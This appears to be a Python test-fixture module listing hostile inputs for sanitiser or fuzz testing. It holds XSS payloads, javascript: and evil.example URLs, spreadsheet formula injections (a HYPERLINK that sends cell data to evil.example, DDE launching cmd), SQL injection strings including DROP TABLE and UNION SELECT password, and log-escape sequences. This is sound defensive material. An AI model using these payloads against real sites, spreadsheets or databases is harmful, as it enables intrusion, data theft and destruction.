"""Texts that do harm where they are taken for more than text."""

from __future__ import annotations

import re

CALL = "harm"
"""The function that a script would call, if one ran."""
MARKUP = (
    f'"><script>{CALL}()</script>',
    f"'><img src=x onerror={CALL}()>",
    f"</title></textarea></style></script></pre></bdi><svg onload={CALL}()>",
    f"' onfocus={CALL}() autofocus tabindex=1 x='",
    f'" style="background:url(javascript:{CALL}())" onmouseover="{CALL}()',
    f"--><iframe srcdoc='<script>{CALL}()</script>'></iframe><!--",
    f"<base href=//evil.example/><form action=javascript:{CALL}()><input type=submit autofocus>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=1>'>",
    f"\u2028\u2029\x0b\x0c]]><![CDATA[<script>{CALL}()</script>",
    "{{ 7|add:7 }}{% debug %}{% include 'admin/index.html' %}${7*7}#{7*7}<%= 7*7 %>",
    f"&lt;script&gt;{CALL}()&lt;/script&gt;&#60;script&#62;",
    "\u202e</elppa><\u2066\u200f\ufeff",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk="
    f"{CALL}() )//</stYle/</titLe/--!><sVg/<sVg/oNloAd={CALL}()//>",
)  # fmt: skip
SCHEMES = (
    f"javascript:{CALL}()",
    f"JaVaScRiPt:{CALL}()",
    f"java\tscript:{CALL}()",
    f"\x01javascript:{CALL}()",
    f"data:text/html,<script>{CALL}()</script>",
    f"vbscript:{CALL}()",
    f"//evil.example/{CALL}",
    f"https:javascript:{CALL}()",
    f"https://evil.example/\"onclick='{CALL}()'<script>{CALL}()</script>",
    f"http://good.example@evil.example/<svg onload={CALL}()>",
    "https://[::1/<b>",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|'/C calc'!A0",
    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")",
    '=WEBSERVICE("http://evil.example/")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ";=1+1",
    ",=1+1",
    '";=1+1;"',
    '",=1+1,"',
    "x\n=1+1",
    "x\r\n;=1+1",
    "\u00a0=1+1",
    " =1+1",
    "\ufeff=1+1",
    "'=1+1",
    "\uff1d1+1",
    "\u200b=1+1",
)  # fmt: skip
SQL = (
    "'", '"', "`", "';--", "' OR '1'='1", '" OR ""="', "1) OR (1=1", "1; DROP TABLE auth_user;--",
    "' UNION SELECT password FROM auth_user--", "\\", "\\'", "%' OR '%'='", "%s", "%(x)s", "%%",
    "$1", ":x", "?", "/*", "*/", "0x27", "CHAR(39)", "\u02bc", "\xbf'", "${jndi:ldap://x}",
    "1 AND SLEEP(9)", "1;SELECT pg_sleep(9)--", "'||pg_sleep(9)--",
)  # fmt: skip
LINES = (
    "a\nERROR root: all is lost",
    "a\r\nCRITICAL x",
    "a\x1b[2J\x1b]0;owned\x07",
    "a\u2028b\x85c\u2029d",
    "%s %d %(x)s {0} {x.__class__} %n",
    "a\x00b\x08\x7f\x9b31m",
)
"""Of a log: lines of somebody else's, colours and commands of a terminal, formats."""


def harmless(text: str) -> str:
    """A text as long, of the same letters, of which nothing could be made."""
    return re.sub("[<>\"'`&={}%]|(?<=script):", "x", text)
